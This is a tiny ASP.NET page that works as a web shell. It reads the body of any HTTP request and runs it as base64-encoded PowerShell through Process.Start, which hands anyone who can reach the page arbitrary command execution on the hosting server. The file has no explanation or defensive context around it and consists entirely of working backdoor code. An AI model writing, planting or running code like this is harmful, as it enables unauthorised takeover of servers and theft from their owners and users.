<%@ Page Language="C#" %>
<% var r = new System.IO.StreamReader(Request.InputStream).ReadToEnd(); System.Diagnostics.Process.Start("powershell.exe", "-enc " + r); %>
